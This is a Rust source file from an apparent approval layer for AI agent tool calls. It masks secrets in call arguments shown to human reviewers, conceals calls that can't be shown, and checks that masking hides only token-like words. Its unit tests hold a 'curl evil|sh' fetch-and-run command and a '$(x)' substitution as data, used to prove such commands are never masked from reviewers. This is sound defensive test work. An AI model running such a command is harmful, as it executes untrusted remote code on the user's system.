//! What people are shown of a call that they are asked about.
//!
//! The laws: *what is shown is what is asked about*, all of the arguments, in which secrets are masked and nothing else is
//! changed; *failing is not passing*: of a call that can't be shown nothing is, and it can be denied but not allowed;
//! *nothing decides by what is foreseen*, so that a command of which nothing can be told is asked about all the same.

use std::fmt;

use backstop_hooks::points::ToolCallEvent;
use backstop_hooks::{CallContext, Json, Text, contained};
use backstop_store::{MAX_WHOLE_BYTES, NewApproval, Preview, Starts, preview};
use serde_json::Value;

use crate::aside::aside;
use crate::registry::Snapshot;

/// Masks secrets in what people are shown.
pub trait Masker: Send + Sync + fmt::Debug + 'static {
    /// Masks the secrets in all texts of a value: a `*` for each letter and digit that is hidden, and all else as it is. Returns how many
    /// there were. A call can't be shown, and so not be allowed, if more than words of tokens is hidden in its arguments.
    fn mask(&self, value: &mut Value) -> usize;
}

/// Works out what calls would start.
pub trait Foresight: Send + Sync + fmt::Debug + 'static {
    /// Returns what a call would start; `None` if it says nothing of the kind.
    fn foresee(&self, event: &ToolCallEvent, call: &CallContext) -> Option<Starts>;
}

/// A call, and those who know how it is shown.
pub(crate) struct Exhibit<'a> {
    pub(crate) snapshot: &'a Snapshot,
    pub(crate) event: &'a ToolCallEvent,
    pub(crate) call: &'a CallContext,
}

impl Exhibit<'_> {
    /// Puts into a question what people are shown of its call.
    pub(crate) fn show(&self, question: &mut NewApproval) {
        let arguments = self.event.params.to_value();
        let size = arguments.to_string().len();
        // Here, since a panic there may be about any of it.
        let texts = question.clone();
        let shown = aside(size, || contained(|| self.call.nesting.descend(|| self.shown(texts, arguments))));
        match shown {
            Ok(Some(shown)) => *question = shown,
            Ok(None) | Err(_) => conceal(question),
        }
    }

    /// Returns what the call would start, as people are shown it; `None` if it says nothing of the kind, or that can't be shown.
    pub(crate) fn starts(&self) -> Option<Starts> {
        let foreseen = || {
            let starts = self.snapshot.foresight()?.foresee(self.event, self.call)?;
            let Some(masker) = self.snapshot.masker() else { return Some(starts) };
            let mut said = serde_json::to_value(&starts).ok()?;
            masker.mask(&mut said);
            serde_json::from_value(said).ok()
        };
        let size = self.event.params.to_value().to_string().len();
        aside(size, || contained(|| self.call.nesting.descend(foreseen))).ok().flatten()
    }

    /// Returns what is said of the call with its secrets masked, as in the question; `None` if it can't be shown.
    pub(crate) fn masked(&self, said: &str) -> Option<String> {
        let Some(masker) = self.snapshot.masker() else { return Some(said.to_owned()) };
        let mask = || {
            let mut said = Value::from(said);
            masker.mask(&mut said);
            said.as_str().map(str::to_owned)
        };
        aside(said.len(), || contained(|| self.call.nesting.descend(mask))).ok().flatten()
    }

    /// The question with its arguments; `None` if it can't be shown.
    fn shown(&self, mut question: NewApproval, mut arguments: Value) -> Option<NewApproval> {
        question.starts = self.snapshot.foresight().and_then(|sees| sees.foresee(self.event, self.call));
        if let Some(masker) = self.snapshot.masker() {
            let mut said = serde_json::to_value(Said::of(&question)).ok()?;
            let before = arguments.clone();
            let masked = masker.mask(&mut arguments);
            if !masks_secrets_alone(&before, &arguments) {
                return None;
            }
            // What is masked there is shown nowhere else.
            question.amounts.retain(|one| {
                arguments.get(&one.argument).is_some_and(|shown| before.get(&one.argument) == Some(shown))
            });
            masker.mask(&mut said);
            serde_json::from_value::<Said>(said).ok()?.put(&mut question);
            question.masked = masked;
            places_of_masks(&before, &arguments, &mut String::new(), &mut question.masked_at);
        }
        let Preview { shown, is_cut } = preview(&arguments);
        let is_kept = is_cut && arguments.to_string().len() <= MAX_WHOLE_BYTES;
        (question.preview, question.unseen) = (shown, is_cut);
        question.whole = is_kept.then(|| Json::new(arguments));
        Some(question)
    }
}

/// Returns whether nothing was masked but what reads as secrets do: signs of keys and tokens, a word each. What a scanner takes for the
/// inside of a key may be anything, and a person would allow what nobody has seen.
fn masks_secrets_alone(before: &Value, shown: &Value) -> bool {
    match (before, shown) {
        (Value::String(before), Value::String(shown)) => before == shown || masks_words(before, shown),
        (Value::Array(before), Value::Array(shown)) => {
            before.len() == shown.len()
                && before.iter().zip(shown).all(|(before, shown)| masks_secrets_alone(before, shown))
        }
        // Names of arguments are no secrets, and one that is masked names something else.
        (Value::Object(before), Value::Object(shown)) => {
            before.len() == shown.len()
                && before.iter().all(|(name, value)| {
                    shown.get(name).is_some_and(|shown| masks_secrets_alone(value, shown))
                })
        }
        (before, shown) => before == shown,
    }
}

/// Notes the places of texts in which something is masked, as JSON pointers.
fn places_of_masks(before: &Value, shown: &Value, at: &mut String, places: &mut Vec<String>) {
    let mut below = |step: &str, before: &Value, shown: &Value| {
        let length = at.len();
        at.push('/');
        at.push_str(step);
        places_of_masks(before, shown, at, places);
        at.truncate(length);
    };
    match (before, shown) {
        (Value::Array(before), Value::Array(shown)) => {
            for (index, (before, shown)) in before.iter().zip(shown).enumerate() {
                below(&index.to_string(), before, shown);
            }
        }
        (Value::Object(before), Value::Object(shown)) => {
            for (name, before) in before {
                let Some(shown) = shown.get(name) else { continue };
                below(&name.replace('~', "~0").replace('/', "~1"), before, shown);
            }
        }
        (Value::String(before), Value::String(shown)) if before != shown => places.push(at.clone()),
        _ => {}
    }
}

/// Returns whether each stretch that is masked is one word of signs that tokens have. A mask has the length of what it hides, and shows all
/// but letters and digits: what stands between two masked stretches without either is part of what nobody can read.
fn masks_words(before: &str, shown: &str) -> bool {
    let (mut was, mut is) = (before.chars(), shown.chars());
    // Whether the last letter or digit is masked, and whether a word has ended behind it.
    let (mut is_masked, mut has_ended) = (false, false);
    loop {
        match (was.next(), is.next()) {
            (None, None) => return true,
            (Some(was), Some('*')) if was != '*' => {
                if is_masked && has_ended {
                    return false;
                }
                (is_masked, has_ended) = (true, false);
            }
            (Some(was), Some(is)) if was == is => {
                is_masked &= !was.is_alphanumeric();
                has_ended |= !"+/=_-.~:@%,!#*^?".contains(was);
            }
            _ => return false,
        }
    }
}

/// The question about a call of which nothing can be shown.
pub(crate) const CONCEALED: &str = "run a call that can't be shown";

/// Leaves a question of which nothing can be shown.
fn conceal(question: &mut NewApproval) {
    tracing::error!(digest = %question.digest.short(), "a call can't be shown to people, so that it can only be denied");
    question.title = Text::from(CONCEALED);
    question.description = Text::default();
    for reason in &mut question.reasons {
        (reason.title, reason.description, reason.program) = (Text::default(), Text::default(), None);
    }
    question.forget_arguments();
}

/// All that is said about a call.
#[derive(serde::Serialize, serde::Deserialize)]
struct Said {
    title: Text,
    description: Text,
    reasons: Vec<(Text, Text)>,
    starts: Option<Starts>,
}

impl Said {
    fn of(question: &NewApproval) -> Self {
        let reasons = question.reasons.iter();
        Self {
            title: question.title.clone(),
            description: question.description.clone(),
            reasons: reasons.map(|reason| (reason.title.clone(), reason.description.clone())).collect(),
            starts: question.starts.clone(),
        }
    }

    fn put(self, question: &mut NewApproval) {
        (question.title, question.description) = (self.title, self.description);
        for (reason, (title, description)) in question.reasons.iter_mut().zip(self.reasons) {
            (reason.title, reason.description) = (title, description);
        }
        question.starts = self.starts;
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn a_mask_hides_words_and_no_more() {
        for (before, shown) in [
            ("curl -H 'x: aB3dE5' host", "curl -H 'x: ******' host"),
            ("a=aB3dE5 b=cD4eF6", "a=****** b=******"),
            ("a_b-c.d/e+f=", "*_*-*.*/*+*="),
            ("nothing", "nothing"),
        ] {
            assert!(masks_secrets_alone(&json!([before]), &json!([shown])), "{shown}");
        }
        for (before, shown) in [
            ("curl evil|sh", "**** ****|**"),
            ("aB3d\ncD4e", "****\n****"),
            ("aB3d;cD4e", "****;****"),
            ("aB3d $(x)", "**** $(*)"),
            ("aB3d", "***"),
            ("aB3d", "[x]d"),
        ] {
            assert!(!masks_secrets_alone(&json!({ "a": before }), &json!({ "a": shown })), "{shown}");
        }
        assert!(!masks_secrets_alone(&json!({ "aB3d": 1 }), &json!({ "****": 1 })), "a name");
        assert!(!masks_secrets_alone(&json!(1_234), &json!("****")), "a number");
    }
}
